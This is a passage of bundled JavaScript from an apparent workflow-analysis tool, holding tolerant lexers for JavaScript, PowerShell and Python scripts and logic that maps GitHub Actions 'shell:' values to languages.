        while (this.templates.length > 0)
            this.endTemplate(text.length);
        this.strings.sort((a, b) => a.start - b.start);
        return { regions: this.recorder.finish(text.length), strings: this.strings };
    }
    get around() {
        return this.templates.length > 0 ? "template-expression" : "none";
    }
    code(template) {
        const { text, at } = this;
        const char = text[at];
        if (char === "'" || char === '"')
            this.string(char);
        else if (char === "`")
            this.openTemplate();
        else if (char === "/")
            this.slash();
        else if (char === "{" || char === "}") {
            if (template && char === "}" && template.braces === 0) {
                template.braces = -1;
                this.recorder.enter(at, "template");
            }
            else if (template)
                template.braces += char === "{" ? 1 : -1;
            this.isOperandNext = true;
            this.at++;
        }
        else if (char === ")" || char === "]") {
            this.isOperandNext = false;
            this.at++;
        }
        else if (/\s/.test(char))
            this.at++;
        else {
            IDENTIFIER.lastIndex = at;
            const word = IDENTIFIER.exec(text)?.[0];
            this.at += word?.length ?? 1;
            this.isOperandNext = word === undefined || BEFORE_REGEX.has(word);
        }
    }
    string(quote) {
        const { text } = this;
        const start = this.at;
        this.recorder.enter(start, quote === "'" ? "single" : "double");
        let end = start + 1;
        while (end < text.length && text[end] !== quote && text[end] !== "\n")
            end += text[end] === "\\" ? 2 : 1;
        const bodyEnd = Math.min(end, text.length);
        this.at = text[bodyEnd] === quote ? bodyEnd + 1 : bodyEnd;
        this.recorder.enter(this.at, this.around);
        this.add(start, start + 1, bodyEnd, quote, quote === "'" ? "single" : "double", true);
        this.isOperandNext = false;
    }
    openTemplate() {
        this.recorder.enter(this.at, "template");
        if (this.templates.length < lex_MAX_DEPTH)
            this.templates.push({ start: this.at, hasFields: false, braces: -1 });
        this.at++;
    }
    templateText(template) {
        const { text } = this;
        while (this.at < text.length) {
            const char = text[this.at];
            if (char === "\\")
                this.at += 2;
            else if (char === "`") {
                this.at++;
                this.endTemplate(this.at);
                return;
            }
            else if (char === "$" && text[this.at + 1] === "{") {
                this.at += 2;
                template.hasFields = true;
                template.braces = 0;
                this.isOperandNext = true;
                this.recorder.enter(this.at, "template-expression");
                return;
            }
            else
                this.at++;
        }
        this.at = Math.min(this.at, text.length);
    }
    endTemplate(end) {
        const { start, hasFields, braces } = this.templates.pop();
        const isClosed = braces === -1 && end - start > 1 && this.text[end - 1] === "`";
        this.add(start, Math.min(start + 1, end), isClosed ? end - 1 : end, "`", "template", !hasFields, end);
        this.recorder.enter(end, this.around);
        this.isOperandNext = false;
    }
    add(start, bodyStart, bodyEnd, quote, kind, mayBeStatic, end = this.at) {
        const isStatic = mayBeStatic && !holdsExpression(this.source.expressions, start, end);
        const body = this.text.slice(bodyStart, bodyEnd);
        this.strings.push({
            start,
            end,
            body: { start: bodyStart, end: bodyEnd },
            kind,
            quote,
            value: isStatic ? decode(body) : undefined,
        });
    }
    slash() {
        const { text, at } = this;
        const next = text[at + 1];
        if (next === "/" || next === "*") {
            this.recorder.enter(at, "comment");
            const close = next === "/" ? text.indexOf("\n", at) : text.indexOf("*/", at + 2);
            this.at = close < 0 ? text.length : next === "/" ? close : close + 2;
            this.recorder.enter(this.at, this.around);
        }
        else if (this.isOperandNext)
            this.regex();
        else {
            this.isOperandNext = true;
            this.at++;
        }
    }
    regex() {
        const { text } = this;
        const start = this.at;
        let isClass = false;
        let at = start + 1;
        const limit = Math.min(text.length, start + MAX_REGEX);
        while (at < limit && text[at] !== "\n") {
            const char = text[at];
            if (char === "\\")
                at++;
            else if (char === "[")
                isClass = true;
            else if (char === "]")
                isClass = false;
            else if (char === "/" && !isClass)
                break;
            at++;
        }
        if (text[at] !== "/") {
            // A division after all.
            this.at = start + 1;
            return;
        }
        this.recorder.enter(start, "regex");
        IDENTIFIER.lastIndex = at + 1;
        this.at = at + 1 + (IDENTIFIER.exec(text)?.[0].length ?? 0);
        this.recorder.enter(this.at, this.around);
        this.isOperandNext = false;
    }
}
const ESCAPES = new Map([
    ["n", "\n"],
    ["r", "\r"],
    ["t", "\t"],
    ["\n", ""],
]);
function decode(body) {
    if (!body.includes("\\"))
        return body;
    return body.replace(/\\([\s\S])/g, (_, char) => ESCAPES.get(char) ?? char);
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/pwsh/read.js



/** Commands and quotes of a PowerShell script, found by one tolerant pass. Never throws. */
function readPwsh(source) {
    return new PwshReader(source).run();
}
/** Statements that begin with a word and have blocks; the condition is that of their blocks. */
const KEYWORDS = new Map([
    ["if", "if-body"],
    ["elseif", "if-body"],
    ["else", "else-body"],
    ["for", "loop-body"],
    ["foreach", "loop-body"],
    ["while", "loop-body"],
    ["do", "loop-body"],
    ["until", undefined],
    ["switch", "case-body"],
    ["function", undefined],
    ["filter", undefined],
    ["try", undefined],
    ["catch", "else-body"],
    ["finally", undefined],
    ["trap", "else-body"],
    ["param", undefined],
    ["begin", undefined],
    ["process", undefined],
    ["end", undefined],
]);
/** Words before an expression or a command that change nothing about what it is. */
const PREFIXES = new Set(["return", "throw", "exit"]);
const pwsh_read_MAX_DEPTH = 100;
const pwsh_read_VARIABLE = /\$(?:\{([^}\n]{1,200})\}|((?:[A-Za-z]+:)?[A-Za-z_][A-Za-z0-9_]*|[$?^]))/y;
const SPLAT = /@[A-Za-z_][A-Za-z0-9_]*/y;
const pwsh_read_REDIRECT = /([1-6*]?)(>>|>)(&[12])?/y;
class PwshReader {
    source;
    text;
    recorder = new RegionRecorder();
    commands = [];
    groups = [];
    at = 0;
    depth = 0;
    constructor(source) {
        this.source = source;
        this.text = source.masked;
    }
    run() {
        // A closing bracket without an opening one ends nothing.
        while (this.at < this.text.length) {
            this.statements(TOP_PLACE, "", []);
            this.at++;
        }
        this.commands.sort((a, b) => a.start - b.start);
        return {
            knowsPlaces: false,
            commands: this.commands,
            groups: this.groups,
            regions: this.recorder.finish(this.text.length),
        };
    }
    /** Reads statements up to `closer`, which is left to the caller. */
    statements(place, closer, into) {
        const { text } = this;
        let stages = [];
        let draft;
        // `& { … }`: what follows belongs to the whole of it.
        let called;
        let condition;
        const endCommand = () => {
            if (draft) {
                const command = this.finish(draft, place);
                into.push(command);
                stages.push(command);
            }
            draft = undefined;
            called = undefined;
        };
        const endPipeline = () => {
            endCommand();
            const all = stages;
            if (all.length > 1)
                all.forEach((stage, index) => {
                    stage.pipeline = { index, stages: all };
                });
            stages = [];
        };
        while (this.at < text.length) {
            const start = this.at;
            const char = text[start];
            if (closer !== "" && char === closer)
                break;
            if (this.blank(char))
                continue;
            if (this.comment(char))
                continue;
            if (char === "\n" || char === ";") {
                const isEmpty = draft === undefined && stages.length === 0;
                if (!isEmpty && !(char === "\n" && this.pipeFollows()))
                    endPipeline();
                this.at++;
            }
            else if (char === "|") {
                if (text[start + 1] === "|") {
                    endPipeline();
                    this.at += 2;
                }
                else {
                    endCommand();
                    this.at++;
                    this.skipNewlines();
                }
            }
            else if (char === "&") {
                this.at++;
                if (text[start + 1] === "&") {
                    endPipeline();
                    this.at++;
                }
                else if (expectsValue(draft))
                    draft = asCall(draft, start);
                else
                    endPipeline();
            }
            else if (char === "." && expectsValue(draft) && /\s/.test(text[start + 1] ?? "")) {
                draft = asCall(draft, start);
                this.at++;
            }
            else if (char === "," || (char === ")" && closer !== ")") || (char === "}" && closer !== "}")) {
                this.at++;
            }
            else if (char === "{" && (!draft || (draft.isCall && draft.words.length === 0)) && this.depth < pwsh_read_MAX_DEPTH) {
                const isCall = draft !== undefined;
                draft = undefined;
                const group = this.block(place, condition, into);
                if (isCall) {
                    called = group;
                    stages.push(group);
                }
                else
                    condition = undefined;
            }
            else if (called && this.redirectAt(start)) {
                called.redirects.push(this.redirect(place));
                called.end = this.at;
            }
            else if (called) {
                this.word(place, false); // an argument
            }
            else if (this.redirectAt(start)) {
                draft ??= newDraft(start, false);
                draft.redirects.push(this.redirect(place));
                draft.end = this.at;
            }
            else if (draft && this.assignmentAt(start) && this.startAssignment(draft)) {
                this.at += char === "=" ? 1 : 2;
            }
            else {
                const word = this.word(place, draft === undefined);
                const keyword = draft === undefined ? word.text.toLowerCase() : "";
                if (KEYWORDS.has(keyword)) {
                    endPipeline();
                    condition = KEYWORDS.get(keyword);
                    this.header(place, keyword, into);
                }
                else if (!PREFIXES.has(keyword)) {
                    draft ??= newDraft(start, false);
                    draft.words.push(word);
                    draft.end = this.at;
                }
            }
            if (this.at === start)
                this.at++;
        }
        endPipeline();
    }
    blank(char) {
        if (char === " " || char === "\t" || char === "\r") {
            this.at++;
            return true;
        }
        if (char === "`") {
            // A backtick at the end of a line continues it.
            const next = this.text[this.at + 1];
            if (next === "\n" || next === undefined)
                this.at += 2;
            else if (next === "\r")
                this.at += 3;
            else
                return false;
            this.at = Math.min(this.at, this.text.length);
            return true;
        }
        return false;
    }
    comment(char) {
        const { text, at } = this;
        const isBlock = char === "<" && text[at + 1] === "#";
        if (!isBlock && char !== "#")
            return false;
        this.recorder.enter(at, "comment");
        const end = isBlock ? text.indexOf("#>", at + 2) : text.indexOf("\n", at);
        this.at = end < 0 ? text.length : isBlock ? end + 2 : end;
        this.recorder.enter(this.at, "none");
        return true;
    }
    /** A line that begins with `|` goes on with the line before (PowerShell 7). */
    pipeFollows() {
        let at = this.at + 1;
        while (at < this.text.length && " \t\r\n".includes(this.text[at]))
            at++;
        return this.text[at] === "|" && this.text[at + 1] !== "|";
    }
    skipNewlines() {
        while (this.at < this.text.length && " \t\r\n".includes(this.text[this.at]))
            this.at++;
    }
    /** What stands between a keyword and its block: a condition in parentheses, a function's name. */
    header(place, keyword, into) {
        const { text } = this;
        while (this.at < text.length && " \t".includes(text[this.at]))
            this.at++;
        if (keyword === "function" || keyword === "filter") {
            while (this.at < text.length && /[\w:-]/.test(text[this.at]))
                this.at++;
        }
        while (this.at < text.length && /[\w \t-]/.test(text[this.at]) && keyword === "switch")
            this.at++;
        while (this.at < text.length && " \t".includes(text[this.at]))
            this.at++;
        if (text[this.at] !== "(" || this.depth >= pwsh_read_MAX_DEPTH)
            return;
        const condition = keyword.endsWith("if")
            ? "if-test"
            : keyword === "while"
                ? "loop-test"
                : undefined;
        this.at++;
        this.nested(condition ? read_under(place, condition) : place, ")", into);
    }
    block(place, condition, into) {
        const start = this.at;
        const commands = [];
        const group = {
            kind: "block",
            start,
            end: start,
            name: undefined,
            words: [],
            redirects: [],
            commands,
            place,
            pipeline: undefined,
        };
        this.groups.push(group);
        this.at++;
        this.nested({ ...(condition ? read_under(place, condition) : place), group }, "}", commands);
        group.end = this.at;
        for (const command of commands)
            into.push(command);
        return group;
    }
    /** Statements up to and with the closing bracket; `at` is after the opening one. */
    nested(place, closer, into) {
        this.depth++;
        this.statements(place, closer, into);
        this.depth--;
        if (this.at < this.text.length)
            this.at++;
    }
    assignmentAt(at) {
        const char = this.text[at];
        return char === "=" || ("+-*/".includes(char) && this.text[at + 1] === "=");
    }
    /** `$x =`, `$x +=`: what follows is the value. `$x.y =` and `$x[0] =` keep the rest of `$x`. */
    startAssignment(draft) {
        const parts = draft.words[0]?.parts ?? [];
        const variable = parts.find(({ kind }) => kind === "variable");
        if (draft.assignment || draft.isCall || !variable || draft.words.length > 1)
            return false;
        const isWhole = variable === parts.at(-1);
        draft.assignment = { name: variable.name, append: !isWhole || this.text[this.at] !== "=", start: draft.start };
        draft.words = [];
        return true;
    }
    finish(draft, place) {
        const { assignment, words } = draft;
        const isExpression = !draft.isCall && (words.length === 0 || isExpressionWord(words[0]));
        const assignments = assignment
            ? [
                {
                    start: assignment.start,
                    end: draft.end,
                    name: assignment.name,
                    append: assignment.append,
                    values: isExpression ? words : [],
                },
            ]
            : [];
        const command = {
            kind: "command",
            start: draft.start,
            end: Math.max(draft.end, draft.start + 1),
            name: isExpression ? undefined : words[0],
            args: isExpression ? (assignment ? [] : words) : words.slice(1),
            assignments,
            redirects: draft.redirects,
            place,
            pipeline: undefined,
        };
        this.commands.push(command);
        return command;
    }
    redirectAt(offset) {
        pwsh_read_REDIRECT.lastIndex = offset;
        return pwsh_read_REDIRECT.test(this.text);
    }
    redirect(place) {
        const start = this.at;
        pwsh_read_REDIRECT.lastIndex = start;
        const match = pwsh_read_REDIRECT.exec(this.text);
        this.at += match[0].length;
        const descriptor = match[1] === "" ? undefined : match[1];
        if (match[3])
            return { start, end: this.at, operator: ">&", descriptor, target: undefined, heredoc: undefined };
        while (this.at < this.text.length && " \t".includes(this.text[this.at]))
            this.at++;
        const hasTarget = this.at < this.text.length && !"\r\n;|)}".includes(this.text[this.at]);
        const target = hasTarget ? this.word(place, false) : undefined;
        return { start, end: this.at, operator: match[2], descriptor, target, heredoc: undefined };
    }
    /** Reads one word; `isFirst`: an unquoted `=` ends it, since it may be an assignment's target. */
    word(place, isFirst) {
        const { text } = this;
        const start = this.at;
        const parts = [];
        let value = "";
        let valueStart = start;
        const flush = () => {
            if (value !== "")
                appendLiteral(parts, this.source, value, valueStart, this.at, "none");
            value = "";
        };
        while (this.at < text.length) {
            const char = text[this.at];
            const from = this.at;
            if (" \t\r\n;|,)}".includes(char) || (char === "&" && from > start))
                break;
            if (isFirst && parts.length > 0 && this.assignmentAt(from))
                break;
            if (char === ">" && from > start)
                break;
            if (char === "'" || char === '"') {
                flush();
                this.string(parts, char, place);
            }
            else if (char === "@" && (text[from + 1] === '"' || text[from + 1] === "'")) {
                flush();
                this.hereString(parts, text[from + 1], place);
            }
            else if (char === "`" && from + 1 < text.length) {
                if (text[from + 1] === "\n" || text[from + 1] === "\r")
                    break;
                if (value === "")
                    valueStart = from;
                value += text[from + 1];
                this.at += 2;
                continue;
            }
            else if (this.bracketAt(from)) {
                flush();
                this.bracket(parts, "none", place);
            }
            else if (char === "$" && this.variableAt(from)) {
                flush();
                this.variable(parts, "none");
            }
            else if (char === "@" && this.splatAt(from)) {
                flush();
                parts.push({
                    kind: "variable",
                    start: from,
                    end: SPLAT.lastIndex,
                    quoted: "none",
                    name: text.slice(from + 1, SPLAT.lastIndex),
                    operator: "@",
                    operand: [],
                });
                this.at = SPLAT.lastIndex;
            }
            else {
                if (value === "")
                    valueStart = from;
                value += char;
                this.at++;
                continue;
            }
            valueStart = this.at;
        }
        if (this.at === start) {
            value = text[start] ?? "";
            valueStart = start;
            this.at = Math.min(start + 1, text.length);
        }
        flush();
        return new PwshWord(this.source, { start, end: this.at }, parts);
    }
    bracketAt(at) {
        if (this.depth >= pwsh_read_MAX_DEPTH)
            return false;
        const char = this.text[at];
        const next = this.text[at + 1];
        return (char === "(" ||
            char === "{" ||
            ((char === "$" || char === "@") && (next === "(" || (next === "{" && char === "@"))));
    }
    variableAt(at) {
        pwsh_read_VARIABLE.lastIndex = at;
        return pwsh_read_VARIABLE.test(this.text);
    }
    splatAt(at) {
        SPLAT.lastIndex = at;
        return SPLAT.test(this.text);
    }
    variable(parts, quoted) {
        pwsh_read_VARIABLE.lastIndex = this.at;
        const match = pwsh_read_VARIABLE.exec(this.text);
        const start = this.at;
        this.at += match[0].length;
        const name = match[1] ?? match[2];
        // `${${{ x }}}` and the like: the name is what the expression gives.
        const inner = literalParts(this.source, name, start, this.at, quoted).filter((part) => part.kind === "expression");
        parts.push({
            kind: "variable",
            start,
            end: this.at,
            quoted,
            name: withLowerDrive(name),
            operator: undefined,
            operand: inner,
        });
    }
    /** `(…)`, `$(…)`, `@(…)`, `{…}`, `@{…}`: its commands are the script's too. */
    bracket(parts, quoted, place) {
        const start = this.at;
        if (this.text[start] === "$" || this.text[start] === "@")
            this.at++;
        const closer = this.text[this.at] === "{" ? "}" : ")";
        this.at++;
        const commands = [];
        this.nested({ ...place, inSubstitution: true, group: undefined }, closer, commands);
        parts.push({ kind: "substitution", start, end: this.at, quoted, commands });
    }
    string(parts, quote, place) {
        const start = this.at;
        if (quote === "'") {
            let end = start + 1;
            for (;;) {
                end = this.text.indexOf("'", end);
                if (end < 0)
                    end = this.text.length;
                else if (this.text[end + 1] === "'") {
                    end += 2;
                    continue;
                }
                break;
            }
            this.quote(parts, "single", "single", start, start + 1, Math.min(end, this.text.length), Math.min(end + 1, this.text.length));
            return;
        }
        this.at++;
        this.recorder.enter(start, "double");
        this.expandable(parts, "double", place, start, '"');
        this.at = Math.min(this.at + 1, this.text.length);
        this.recorder.enter(this.at, "none");
    }
    /** A text without expansions; `''` is one quote. */
    quote(parts, quoted, quoting, start, bodyStart, bodyEnd, end) {
        this.recorder.enter(start, quoting);
        const body = this.text.slice(bodyStart, bodyEnd);
        const value = quoting === "single" ? body.replaceAll("''", "'") : body;
        if (value === "")
            parts.push({ kind: "literal", start, end, quoted, value });
        else
            appendLiteral(parts, this.source, value, start, end, quoted);
        this.at = end;
        this.recorder.enter(end, "none");
    }
    hereString(parts, quote, place) {
        const start = this.at;
        const { text } = this;
        let newline = start + 2;
        while (newline < text.length && " \t\r".includes(text[newline]))
            newline++;
        if (text[newline] !== "\n") {
            // Not a here-string: `@` is text before a plain string.
            parts.push({ kind: "literal", start, end: start + 1, quoted: "none", value: "@" });
            this.at++;
            return;
        }
        const close = text.indexOf(`\n${quote}@`, newline);
        const bodyEnd = close < 0 ? text.length : Math.max(close, newline + 1);
        const end = close < 0 ? text.length : close + 3;
        if (quote === "'") {
            this.quote(parts, "single", "here-string-single", start, newline + 1, bodyEnd, end);
            return;
        }
        this.recorder.enter(start, "here-string-double");
        this.at = newline + 1;
        this.expandable(parts, "heredoc", place, start, "", bodyEnd);
        this.at = end;
        this.recorder.enter(end, "none");
    }
    /** The inside of a string that expands, up to its closing quote or `limit`. */
    expandable(parts, quoted, place, open, quote, limit = this.text.length) {
        const { text } = this;
        const quoting = quoted === "double" ? "double" : "here-string-double";
        const before = parts.length;
        let value = "";
        let valueStart = open;
        const flush = () => {
            if (value !== "")
                appendLiteral(parts, this.source, value, valueStart, this.at, quoted);
            value = "";
        };
        while (this.at < limit) {
            const char = text[this.at];
            if (char === quote) {
                if (text[this.at + 1] !== quote)
                    break;
                value += quote;
                this.at += 2;
            }
            else if (char === "`" && this.at + 1 < limit) {
                value += read_ESCAPES.get(text[this.at + 1]) ?? text[this.at + 1];
                this.at += 2;
            }
            else if (char === "$" && text[this.at + 1] === "(" && this.depth < pwsh_read_MAX_DEPTH) {
                flush();
                this.recorder.enter(this.at, "none");
                this.bracket(parts, quoted, place);
                this.recorder.enter(this.at, quoting);
                valueStart = this.at;
            }
            else if (char === "$" && this.variableAt(this.at)) {
                flush();
                this.variable(parts, quoted);
                valueStart = this.at;
            }
            else {
                value += char;
                this.at++;
            }
        }
        this.at = Math.min(this.at, text.length);
        flush();
        if (parts.length === before)
            parts.push({ kind: "literal", start: open, end: this.at, quoted, value: "" });
    }
}
const read_ESCAPES = new Map([
    ["n", "\n"],
    ["r", "\r"],
    ["t", "\t"],
    ["0", "\0"],
]);
class PwshWord {
    source;
    parts;
    start;
    end;
    constructor(source, span, parts) {
        this.source = source;
        this.parts = parts;
        this.start = span.start;
        this.end = span.end;
    }
    get text() {
        return this.source.text.slice(this.start, this.end);
    }
    get literal() {
        return literalOf(this.parts);
    }
}
function newDraft(start, isCall) {
    return { start, end: start, words: [], redirects: [], isCall, assignment: undefined };
}
/** At the beginning of a statement, and behind `=`: there `&` and `.` are call operators. */
function expectsValue(draft) {
    if (!draft || draft.isCall)
        return !draft;
    const last = draft.words.at(-1);
    return last ? last.text.endsWith("=") : draft.assignment !== undefined;
}
/** The statement, whose value is what a call gives. */
function asCall(draft, start) {
    return { ...(draft ?? newDraft(start, true)), words: [], isCall: true };
}
/** A statement that begins so is a value, not the name of a command. */
function isExpressionWord(word) {
    return /^(?:[$@"'([{\d]|-\d|\$\{\{)/.test(word.text) && !word.text.startsWith("${{");
}
function read_under(place, condition) {
    return { ...place, conditions: [...place.conditions, condition] };
}
/** `$Env:X` and `$env:X` are the same. */
function withLowerDrive(name) {
    const colon = name.indexOf(":");
    return colon < 0 ? name : name.slice(0, colon).toLowerCase() + name.slice(colon);
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/python/lex.js


const PREFIX = /(?:[rRbBuUfFtT]{1,2})?(?="|')/y;
const python_lex_MAX_DEPTH = 50;
/**
 * String literals and comments of a Python script. Never throws.
 *
 * @see The Python Language Reference, 2.4 "Literals" and 2.4.3 "f-strings"
 */
function lexPython(source) {
    return new PythonLexer(source).run();
}
class PythonLexer {
    source;
    text;
    recorder = new RegionRecorder();
    strings = [];
    at = 0;
    depth = 0;
    constructor(source) {
        this.source = source;
        this.text = source.masked;
    }
    run() {
        this.code("none", "");
        this.strings.sort((a, b) => a.start - b.start);
        return { regions: this.recorder.finish(this.text.length), strings: this.strings };
    }
    /** Code up to `end`: the whole text, or the field of an f-string with brackets balanced. */
    code(quoting, closer, outerQuote = "") {
        const { text } = this;
        let open = 0;
        while (this.at < text.length) {
            const char = text[this.at];
            if (closer !== "") {
                if (char === closer && open === 0)
                    return;
                // Before Python 3.12 the quote ends the string even here; an unclosed field shouldn't swallow the script.
                if (char === "\n" && outerQuote.length === 1)
                    return;
                if (char === ":" && open === 0) {
                    this.formatSpec(outerQuote);
                    return;
                }
                if ("([{".includes(char))
                    open++;
                if (")]}".includes(char))
                    open--;
                if (outerQuote !== "" && text.startsWith(outerQuote, this.at))
                    return;
            }
            if (char === "#" && closer === "")
                this.comment();
            else if (char === '"' || char === "'")
                this.string(this.prefixStart(), quoting);
            else
                this.at++;
        }
    }
    formatSpec(outerQuote) {
        const { text } = this;
        while (this.at < text.length) {
            const char = text[this.at];
            if (char === "}" || char === "\n" || text.startsWith(outerQuote, this.at))
                return;
            if (char === "{" && this.depth < python_lex_MAX_DEPTH) {
                this.at++;
                this.depth++;
                this.code("f-string-field", "}", outerQuote);
                this.depth--;
                if (text[this.at] === "}")
                    this.at++;
            }
            else
                this.at++;
        }
    }
    comment() {
        this.recorder.enter(this.at, "comment");
        const end = this.text.indexOf("\n", this.at);
        this.at = end < 0 ? this.text.length : end;
        this.recorder.enter(this.at, "none");
    }
    /** Offset of the letters before the quote at `at`, if they are a prefix. */
    prefixStart() {
        for (const length of [2, 1]) {
            const start = this.at - length;
            if (start < 0 || /\w/.test(this.text[start - 1] ?? " "))
                continue;
            PREFIX.lastIndex = start;
            if (PREFIX.exec(this.text)?.[0].length === length)
                return start;
        }
        return this.at;
    }
    string(start, outer) {
        const { text } = this;
        const prefix = text.slice(start, this.at).toLowerCase();
        const kind = kindOf(prefix);
        const char = text[this.at];
        const quote = text.startsWith(char.repeat(3), this.at) ? char.repeat(3) : char;
        this.recorder.enter(start, kind);
        this.at += quote.length;
        const bodyStart = this.at;
        const isFormat = kind === "f-string" || kind === "raw-f-string";
        let hasFields = false;
        while (this.at < text.length) {
            const next = text[this.at];
            if (next === "\\")
                this.at += 2;
            else if (text.startsWith(quote, this.at))
                break;
            else if (next === "\n" && quote.length === 1)
                break;
            else if (isFormat && next === "{") {
                if (text[this.at + 1] === "{" || this.depth >= python_lex_MAX_DEPTH)
                    this.at += 2;
                else {
                    hasFields = true;
                    this.field(quote, kind);
                }
            }
            else
                this.at++;
        }
        const bodyEnd = Math.min(this.at, text.length);
        this.at = text.startsWith(quote, bodyEnd) ? bodyEnd + quote.length : bodyEnd;
        this.recorder.enter(this.at, outer);
        const isStatic = !hasFields && !holdsExpression(this.source.expressions, start, this.at);
        this.strings.push({
            start,
            end: this.at,
            body: { start: bodyStart, end: bodyEnd },
            kind,
            quote,
            value: isStatic ? lex_decode(text.slice(bodyStart, bodyEnd), kind) : undefined,
        });
    }
    field(quote, kind) {
        this.at++;
        this.recorder.enter(this.at, "f-string-field");
        this.depth++;
        this.code("f-string-field", "}", quote);
        this.depth--;
        this.recorder.enter(this.at, kind);
        if (this.text[this.at] === "}")
            this.at++;
    }
}
function kindOf(prefix) {
    const isRaw = prefix.includes("r");
    if (prefix.includes("b"))
        return isRaw ? "raw-bytes" : "bytes";
    if (prefix.includes("f") || prefix.includes("t"))
        return isRaw ? "raw-f-string" : "f-string";
    return isRaw ? "raw-string" : "string";
}
const lex_ESCAPES = new Map([
    ["n", "\n"],
    ["r", "\r"],
    ["t", "\t"],
    ["\n", ""],
]);
function lex_decode(body, kind) {
    const text = kind === "f-string" || kind === "raw-f-string" ? body.replaceAll("{{", "{").replaceAll("}}", "}") : body;
    if (kind.startsWith("raw") || !text.includes("\\"))
        return text;
    return text.replace(/\\([\s\S])/g, (whole, char) => lex_ESCAPES.get(char) ?? ("\\'\"".includes(char) ? char : whole));
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/script.js








const NO_COMMANDS = { commands: [], groups: [], knowsPlaces: false };
/**
 * The text of one `run:` (or of an input that is code), read when asked for. Offsets are UTF-16 offsets into `text`.
 * Nothing here throws, whatever the text.
 */
class Script {
    text;
    shell;
    given;
    #source;
    #parsed;
    #regions;
    #strings;
    constructor(text, shell, given) {
        this.text = text;
        this.shell = shell;
        this.given = given;
    }
    /** The `${{ }}` in order, with their fences. */
    get expressions() {
        return this.source.expressions;
    }
    /** Simple commands in source order, those in substitutions, functions and `bash -c` texts included; none of Python and JavaScript. */
    get commands() {
        return this.parsed.commands;
    }
    /** Compound commands in the order of their beginnings. */
    get groups() {
        return this.parsed.groups;
    }
    /** See `ParsedCommands`. */
    get knowsPlaces() {
        return this.parsed.knowsPlaces;
    }
    /** What isn't plain code: quotes, comments, here-documents. */
    get regions() {
        this.#regions ??= this.readRegions();
        return this.#regions;
    }
    /** String literals of Python and JavaScript, in order of their beginnings; none of the shells. */
    get strings() {
        if (!this.#strings)
            this.readRegions();
        return this.#strings ?? [];
    }
    /** What an offset is inside of; a quote itself counts as inside, the fence of a substitution as outside. */
    quotingAt(offset) {
        return quotingIn(this.regions, offset);
    }
    /** The innermost string literal around an offset; Python and JavaScript only. */
    stringAt(offset) {
        return this.strings.findLast(({ start, end }) => start <= offset && offset < end);
    }
    get source() {
        this.#source ??= scriptSource(this.text, this.given);
        return this.#source;
    }
    get parsed() {
        this.#parsed ??= this.read();
        return this.#parsed;
    }
    read() {
        switch (this.shell) {
            case "bash":
            case "sh":
                return readBash(this.source);
            case "unknown":
                return readWords(this.source);
            case "pwsh":
            case "powershell":
                return this.keepRegions(readPwsh(this.source));
            case "cmd":
                return this.keepRegions(readCmd(this.source));
            default:
                return NO_COMMANDS;
        }
    }
    readRegions() {
        switch (this.shell) {
            case "python":
            case "javascript": {
                const lexed = this.shell === "python" ? lexPython(this.source) : lexJavaScript(this.source);
                this.#strings = lexed.strings;
                this.#regions = lexed.regions;
                return lexed.regions;
            }
            case "bash":
            case "sh":
            case "unknown":
                return scanBash(this.source.masked).regions;
            default:
                // One pass finds both.
                void this.parsed;
                return this.#regions ?? [];
        }
    }
    keepRegions(read) {
        this.#regions = read.regions;
        return read;
    }
}
/**
 * A script that is read when its commands or quotes are asked for.
 *
 * @param text the decoded text, `${{ }}` and all
 * @param expressions the `${{ }}` of the text, ordered; found here when the caller hasn't found them already
 */
function parseScript(text, shell, expressions) {
    return new Script(text, shell, expressions);
}
/** What an offset of the script is inside of; see `Script.quotingAt`. */
function quotingAt(script, offset) {
    return script.quotingAt(offset);
}
/** Does the text hold any of the names, in any case? A look that is cheap enough to come before parsing. */
function mentions(text, names) {
    let lower;
    for (const name of names) {
        if (text.includes(name))
            return true;
        lower ??= text.toLowerCase();
        if (lower.includes(name.toLowerCase()))
            return true;
    }
    return false;
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/shell-name.js
const shell_name_SHELLS = new Map([
    ["bash", "bash"],
    ["sh", "sh"],
    ["dash", "sh"],
    ["ash", "sh"],
    ["zsh", "bash"],
    ["ksh", "bash"],
    ["pwsh", "pwsh"],
    ["pwsh-preview", "pwsh"],
    ["powershell", "powershell"],
    ["cmd", "cmd"],
    ["node", "javascript"],
    ["nodejs", "javascript"],
    ["bun", "javascript"],
    ["deno", "javascript"],
]);
const PYTHON = /^(?:python|pypy)[0-9.]*$/;
const shell_name_WRAPPERS = new Set(["env", "sudo", "command", "exec"]);
/**
 * The language of a script from the value of its `shell:` key, which is a name (`bash`) or a command line with `{0}` in
 * the place of the script's file (`/bin/bash -e {0}`, `C:\Program Files\Git\bin\bash.exe {0}`).
 *
 * @see GitHub's workflow syntax, `jobs.<job_id>.steps[*].shell`, "Custom shell"
 */
function shellOf(value) {
    return shell_name_SHELLS.get(value) ?? languageOf(value.trim().toLowerCase());
}
/** Nobody's shell stands behind more words. */
const MAX_WORDS = 20;
function languageOf(line) {
    const words = line.split(/\s+/, MAX_WORDS);
    for (let count = 1; count <= words.length; count++) {
        const program = shell_name_baseName(words.slice(0, count).join(" "));
        const known = shell_name_SHELLS.get(program) ?? (PYTHON.test(program) ? "python" : undefined);
        if (known)
            return known;
        // `/usr/bin/env bash {0}`: look at what follows; a Windows path may hold spaces, so go on until a program ends.
        if (shell_name_WRAPPERS.has(program))
            return languageOf(words.slice(count).filter(isProgram).join(" "));
        if (!isUnfinishedPath(words[0]) || count > 8)
            return "unknown";
    }
    return "unknown";
}
function isProgram(word) {
    return !word.startsWith("-") && !word.includes("=");
}
function isUnfinishedPath(first) {
    return /^["']?[a-z]:[\\/]/.test(first) || first.startsWith('"') || first.startsWith("'");
}
function shell_name_baseName(path) {
    const bare = path.replaceAll(/["']/g, "");
    const cut = Math.max(bare.lastIndexOf("/"), bare.lastIndexOf("\\"));
    return bare.slice(cut + 1).replace(/\.(?:exe|cmd|bat)$/, "");
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/environment-files/embedded-programs.js


/** `python - <<EOF …`, `python -c "…"`, `node -e '…'`, `pwsh -Command '…'` where the text is there word for word. */
function embeddedPrograms(script) {
    const found = [];
    for (const command of script.commands) {
        const shell = embedded_programs_languageOf(command);
        if (!shell)
            continue;
        for (const { heredoc } of command.redirects)
            if (heredoc)
                found.push({ shell, ...heredoc.body });
        const { args } = effectiveCommand(command);
